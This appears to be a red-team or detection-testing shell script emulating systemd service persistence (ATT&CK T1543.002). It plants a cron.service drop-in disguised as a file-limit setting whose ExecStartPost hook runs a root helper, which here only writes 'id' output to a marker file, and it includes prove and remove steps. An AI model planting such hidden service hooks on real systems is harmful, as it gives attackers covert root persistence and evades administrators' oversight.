#!/bin/sh
# T1543.002 (quiet): A drop-in of cron's unit runs a helper after each start
M=/var/tmp/luytre-foothold N=06-dropin-poststart
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
plant() {
  w /etc/systemd/system/cron.service.d/20-limits.conf <<'E'
[Service]
LimitNOFILE=65536
ExecStartPost=-/usr/lib/cron/limits
E
  x /usr/lib/cron/limits <<'E'
#!/usr/bin/python3
import os
os.system("id > /var/tmp/luytre-foothold/06-dropin-poststart")
E
  systemctl daemon-reload
}
prove() {
  rm -f "$M/$N"
  systemctl reset-failed cron 2>/dev/null; systemctl restart cron
  seen
}
remove() {
  rm -rf /etc/systemd/system/cron.service.d/20-limits.conf /usr/lib/cron/limits; rmdir /etc/systemd/system/cron.service.d 2>/dev/null; systemctl daemon-reload
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
